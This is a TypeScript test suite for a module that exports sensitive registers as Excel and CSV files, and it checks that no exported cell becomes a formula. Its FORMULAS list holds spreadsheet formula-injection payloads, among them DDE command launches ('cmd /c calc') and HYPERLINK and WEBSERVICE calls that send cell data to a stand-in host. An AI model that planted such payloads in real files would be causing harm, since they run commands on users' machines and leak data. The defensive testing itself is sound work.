import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import readXlsx from 'read-excel-file/node';
import { checkUpload } from '../upload/index.js';
import { type Column, type Sheet, writeCsv, writeXlsx } from './index.js';

interface Row {
  readonly who: string;
  readonly on: string;
  readonly days: number | null;
}

const COLUMNS: readonly Column<Row>[] = [
  { title: 'Who', value: (row) => row.who },
  { title: 'Date', kind: 'day', value: (row) => row.on },
  { title: 'Days', kind: 'number', value: (row) => row.days },
];

const sheetOf = (...rows: Row[]): Sheet<Row> => ({
  name: 'Register: all [reviews]',
  columns: COLUMNS,
  rows,
  marking: 'OFFICIAL-SENSITIVE',
  takenBy: 'Sample Person',
  takenOn: '14 March 2026 at 10:05',
});

const row = (who: string, on = '2026-03-14', days: number | null = 3): Row => ({ who, on, days });

/** Ways to start a formula, to reach another program by it, and to hide that it starts. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  "'=1+1",
  '＝1+1',
  `=cmd|'/c calc'!A0`,
  '=HYPERLINK("http://x.example/"&A1,"press")',
  '=WEBSERVICE("http://x.example/")',
  '=DDE("cmd";"/c calc";"1")',
  '0,=1+1',
  '0;=1+1',
  '0"\r\n=1+1',
];

const xlsx = (sheet: Sheet<Row>): Promise<Buffer> => buffer(writeXlsx(sheet));
const part = (file: Buffer, name: string): string => strFromU8(unzipSync(file)[name] ?? new Uint8Array());

/** The rows of the file's one sheet as another library reads them. */
async function readBack(file: Buffer): Promise<unknown[][]> {
  const [sheet] = await readXlsx(file);
  return (sheet?.data ?? []) as unknown[][];
}

describe('an Excel file', () => {
  it('says above the header who took it when, and holds text, real dates and numbers', async () => {
    assert.deepEqual(await readBack(await xlsx(sheetOf(row('Sample "One" & <two>'), row('', 'March 2026', null)))), [
      ['OFFICIAL-SENSITIVE; taken by Sample Person on 14 March 2026 at 10:05', null, null],
      ['Who', 'Date', 'Days'],
      ['Sample "One" & <two>', new Date('2026-03-14T00:00:00Z'), 3],
      [null, 'March 2026', null],
    ]);
  });

  it('keeps its header in sight, filters by it, and prints its marking', async () => {
    const xml = part(await xlsx(sheetOf(row('A'), row('B'))), 'xl/worksheets/sheet1.xml');
    assert.match(xml, /<pane ySplit="2" topLeftCell="A3" activePane="bottomLeft" state="frozen"\/>/);
    assert.match(xml, /<autoFilter ref="A2:C4"\/>/);
    assert.match(xml, /<oddHeader>&amp;COFFICIAL-SENSITIVE<\/oddHeader>/);
  });

  it('makes each row as high as its text, so that a printed page cuts nothing off', async () => {
    const xml = part(await xlsx(sheetOf(row('A'), row('word '.repeat(40)))), 'xl/worksheets/sheet1.xml');
    const [short = 0, long = 0] = [3, 4].map((at) => Number(new RegExp(`<row r="${at}" ht="(\\d+)"`).exec(xml)?.[1]));
    assert.ok(short > 14 && long > 3 * short, `${short}, ${long}`);
    assert.ok(
      Number(
        /<row r="3" ht="(\d+)"/.exec(
          part(await xlsx(sheetOf(row('x\n'.repeat(900)))), 'xl/worksheets/sheet1.xml'),
        )?.[1],
      ) <= 409,
    );
    assert.match(xml, /orientation="landscape" fitToWidth="1" fitToHeight="0"/);
  });

  it('is taken in by our own check', async () => {
    assert.equal((await checkUpload(await xlsx(sheetOf(row('A'))), 'register.xlsx')).ok, true);
  });

  it('is well formed, and the same when made twice, whatever its text', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.string({ unit: 'binary' }), { maxLength: 20 }), async (texts) => {
        const rows = texts.map((text) => row(text));
        const file = await xlsx(sheetOf(...rows));
        assert.equal((await checkUpload(file, 'register.xlsx')).ok, true);
        assert.deepEqual(file, await xlsx(sheetOf(...rows)));
      }),
      { numRuns: 50 },
    );
  });

  it('holds a text that Excel would shorten or read as an escape', async () => {
    const [, , first, second] = await readBack(await xlsx(sheetOf(row('x'.repeat(40_000)), row('a_x0041_b'))));
    assert.equal(String(first?.[0]).length, 32_767);
    assert.match(part(await xlsx(sheetOf(row('a_x0041_b'))), 'xl/worksheets/sheet1.xml'), /a_x005F_x0041_b/);
    assert.ok(second);
  });

  it('holds no formula, and no cell that becomes one when it is edited', async () => {
    const file = await xlsx(sheetOf(...FORMULAS.map((text) => row(text, text))));
    const xml = part(file, 'xl/worksheets/sheet1.xml');
    assert.doesNotMatch(xml, /<f[ >]/);
    assert.equal([...xml.matchAll(/ s="1" t="inlineStr"/g)].length, 2 * FORMULAS.length);
    assert.match(part(file, 'xl/styles.xml'), /numFmtId="49"[^>]*quotePrefix="1"/);
  });
});

describe('a CSV file', () => {
  const csv = async (...rows: Row[]): Promise<string> => (await buffer(writeCsv(sheetOf(...rows)))).toString();

  it('has a byte order mark, the marking line, the header and quoted text', async () => {
    assert.equal(
      await csv(row('Zoë "Z", aged 4\nand more', '2026-03-14', -3), row('', '', null)),
      '\ufeff"OFFICIAL-SENSITIVE; taken by Sample Person on 14 March 2026 at 10:05"\r\n"Who","Date","Days"\r\n' +
        '"Zoë ""Z"", aged 4\nand more","2026-03-14",-3\r\n"","",\r\n',
    );
  });

  it('puts an apostrophe before what a spreadsheet would evaluate', async () => {
    for (const start of FORMULAS.slice(0, 11)) assert.match(await csv(row(start)), /\r\n"'/, JSON.stringify(start));
  });
});

describe('a long list', () => {
  const LONG = 20_000;
  let made = 0;
  async function* many(): AsyncGenerator<Row> {
    for (made = 0; made < LONG; made += 1) yield row(`Sample Person ${made}`);
  }

  for (const [name, write] of Object.entries({ writeXlsx, writeCsv })) {
    it(`is written as it is read: ${name}`, async () => {
      const stream: Readable = write({ ...sheetOf(), rows: many() });
      let madeAtFirst = 0;
      for await (const _ of stream) madeAtFirst ||= Math.max(1, made);
      assert.equal(made, LONG);
      assert.ok(madeAtFirst < 5_000, `${madeAtFirst} rows were read before the first piece was out`);
    });
  }

  it('stops with an error when its rows do', async () => {
    async function* failing(): AsyncGenerator<Row> {
      yield row('A');
      throw new Error('the database has gone');
    }
    await assert.rejects(buffer(writeXlsx({ ...sheetOf(), rows: failing() })), /the database has gone/);
  });
});

const OFFICE = ['/usr/bin/libreoffice', '/usr/bin/soffice'].find((path) => existsSync(path));

/** A second opinion on the same files, asked where there is a program to ask; the tests above hold on every machine. */
const inOffice = (office: string): void => {
  describe('in a spreadsheet program', () => {
    const rows = FORMULAS.map((text) => row(text, text));

    /** The cells as the program shows them after it has recalculated the file. */
    const shown = (file: Buffer, ending: string): string => {
      const folder = mkdtempSync(join(tmpdir(), 'sheet-'));
      try {
        writeFileSync(join(folder, `in.${ending}`), file);
        const profile = `-env:UserInstallation=file://${folder}/profile`;
        const filter = 'ods:calc8';
        execFileSync(office, [profile, '--headless', '--convert-to', filter, '--outdir', folder, `in.${ending}`], {
          cwd: folder,
          stdio: 'ignore',
          timeout: 120_000,
        });
        return strFromU8(unzipSync(readFileSync(join(folder, 'in.ods')))['content.xml'] ?? new Uint8Array());
      } finally {
        rmSync(folder, { recursive: true, force: true });
      }
    };

    it('no cell of the Excel file is a formula', async () => {
      const content = shown(await xlsx(sheetOf(...rows)), 'xlsx');
      assert.doesNotMatch(content, /table:formula/);
      assert.match(content, /cmd\|/);
    });

    it('no cell of the CSV file is a formula', async () => {
      const content = shown(await buffer(writeCsv(sheetOf(...rows))), 'csv');
      assert.doesNotMatch(content, /table:formula/);
      assert.match(content, /cmd\|/);
    });
  });
};

if (OFFICE !== undefined) inOffice(OFFICE);
